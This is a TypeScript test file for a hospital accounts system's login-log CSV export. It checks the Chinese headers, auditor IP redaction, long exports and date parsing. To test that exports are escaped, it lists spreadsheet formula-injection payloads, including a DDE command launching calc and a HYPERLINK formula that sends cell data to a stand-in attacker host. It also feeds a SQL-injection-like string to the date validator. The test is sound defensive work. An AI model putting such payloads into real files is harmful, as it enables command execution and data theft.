import { parse } from 'csv-parse/sync';
import { buffer } from 'node:stream/consumers';
import { visitor, type Caller } from '../../platform/caller';
import type { Recorded } from '../../schema/envelope';
import { accountCommands } from '../../services/accounts/commands';
import { callerOf } from '../../services/accounts/callerOf';
import { loginLogTable, type LoginLogAsked } from '../../services/accounts/loginLogTable';
import { openAccountsKit, password, type AccountsKit } from '../support/accountsKit';

let kit: AccountsKit;
let person: { readonly id: string; readonly login: string };
let caller: Caller;

beforeAll(async () => {
  kit = await openAccountsKit();
  person = await kit.person(kit.sys, '=1+1管理员', [
    { role: 'ADM', institutionId: kit.hospitals.a },
  ]);
  caller = callerOf(kit.node, (await kit.signIn(person.login)).token, visitor);
});
afterAll(() => kit.close());

const own: LoginLogAsked = { scope: 'OWN', from: null, to: null };
const tableOf = async (asked = own, by = caller) =>
  (await buffer(loginLogTable(kit.node, by, asked).content)).toString();
type Line = Readonly<Record<string, string>>;
const linesOf = async (asked = own, by = caller): Promise<Line[]> =>
  parse(await tableOf(asked, by), { bom: true, columns: true });

/** What a spreadsheet would run: a sign that begins a formula, then something to run. */
const signs = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const payloads = [
  `cmd|' /C calc'!A0`,
  'HYPERLINK("https://attacker.example/?"&A1,"报销")',
  '1+1;=2',
  '","=WEBSERVICE(A1)',
  'SUM(A1:A9)\r\n=1',
];
const formulas = signs.flatMap((sign) => payloads.map((payload) => sign + payload));

describe('the login log as a table', () => {
  it('begins with the mark of UTF-8 and a head in Chinese, and has a line for each attempt', async () => {
    const table = await tableOf();
    expect(table.startsWith('\uFEFF"时间（北京时间）","姓名","账号","角色","机构","结果"')).toBe(
      true,
    );
    expect(table.endsWith('\r\n')).toBe(true);
    const [line, ...others] = await linesOf();
    expect(others).toEqual([]);
    expect(line).toMatchObject({
      ...{ 账号: person.id, 角色: '机构备案系统管理员', 机构: '石城第一医院', 结果: '成功' },
      ...{ IP地址: '192.0.2.7', 浏览器或客户端: 'Browser/1.0', 退出原因: '' },
    });
    expect(line?.['时间（北京时间）']).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
  });

  it('runs nothing in a spreadsheet, whatever a client calls itself', async () => {
    expect(formulas).toHaveLength(50);
    for (const userAgent of formulas) {
      const asked = { login: person.login, password, code: null, ip: null, userAgent };
      await accountCommands(kit.node).signIn(asked);
    }
    const lines = await linesOf();
    expect(lines).toHaveLength(51);
    const cells = lines.flatMap((line) => Object.values(line));
    expect(cells.filter((cell) => signs.some((sign) => cell.startsWith(sign)))).toEqual([]);
    const agents = lines.map((line) => line['浏览器或客户端']).reverse();
    expect(agents.slice(1)).toEqual(formulas.map((formula) => `'${formula}`));
    expect(new Set(lines.map((line) => line['姓名']))).toEqual(new Set(["'=1+1管理员"]));
    // Every cell stands in quotes, so that no other separator of a spreadsheet ends it.
    expect((await tableOf()).slice(1).split(/\r\n(?=")/)[1]).toMatch(
      /^"[^"]*"(,("(""|[^"])*")?)*$/,
    );
  });

  it('tells an auditor who signed in, and not from where', async () => {
    const nation = await kit.person(kit.sys, '国家', [{ role: 'NAT' }]);
    const by = await kit.actAs(nation.login, 'NAT');
    const named = { role: 'AUD', institutionIds: [kit.hospitals.a] };
    const auditor = await kit.person(by, '审计', [named]);
    const of = callerOf(kit.node, (await kit.signIn(auditor.login)).token, visitor);
    const lines = await linesOf({ ...own, scope: 'INSTITUTION' }, of);
    expect(new Set(lines.map((line) => line['账号']))).toEqual(new Set([person.id]));
    expect(new Set(lines.map((line) => line['IP地址']))).toEqual(new Set(['']));
    expect((await linesOf(own, of))[0]?.['IP地址']).toBe('192.0.2.7');
  });

  it('is whole, however long it is', async () => {
    const long = await kit.person(kit.sys, '常客', [{ role: 'NAT' }]);
    const of = callerOf(kit.node, (await kit.signIn(long.login)).token, visitor);
    for (let part = 0; part < 3; part += 1) {
      const stream = `access-${long.id}-2026${String(part).padStart(2, '0')}`;
      const data = { accountId: long.id, reason: 'LOCKED', ip: null, userAgent: null };
      const events = Array.from({ length: 400 }, (_, index) => ({
        type: 'SignInRefused',
        data: { ...data, userAgent: `${String(part)}/${String(index)}` },
      }));
      const actor = { accountId: long.id, role: 'PUB', institutionId: null } as const;
      const written: readonly Recorded[] = await kit.node.log.append({
        ...{ stream, expectedRevision: -1, events, actor, requestHash: '' },
        commandId: stream,
      });
      await kit.node.models.reached(written.at(-1)?.position ?? '');
    }
    const lines = await linesOf(own, of);
    expect(lines).toHaveLength(1_201);
    expect(new Set(lines.map((line) => line['浏览器或客户端'])).size).toBe(1_201);
    expect(loginLogTable(kit.node, of, own).entries).toBe(1_201);
  });

  it('holds the days that are asked for, of Asia/Shanghai, or what lies between two instants', () => {
    const { entries: all } = loginLogTable(kit.node, caller, own);
    const countOf = (from: string | null, to: string | null) => {
      const { content: _, ...table } = loginLogTable(kit.node, caller, { scope: 'OWN', from, to });
      return table;
    };
    expect(countOf('2026-03-01', '2026-03-01')).toMatchObject({
      ...{ from: '2026-02-28T16:00:00.000Z', until: '2026-03-01T16:00:00.000Z', entries: 0 },
    });
    const now = new Date(kit.node.now() + 1_000).toISOString();
    expect(countOf(null, now).entries).toBe(all);
    expect(countOf(now, null).entries).toBe(0);
    expect(countOf('2026-03-01T08:00:00+08:00', null).from).toBe('2026-03-01T00:00:00.000Z');
    for (const wrong of ['', '2026-02-30', '2026-03-01T08:00:00', 'yesterday', '1e9', "'; --"]) {
      for (const asked of [
        { ...own, from: wrong },
        { ...own, to: wrong },
      ]) {
        expect(() => loginLogTable(kit.node, caller, asked)).toThrow(
          expect.objectContaining({ code: 'INVALID' }) as Error,
        );
      }
    }
  });
});
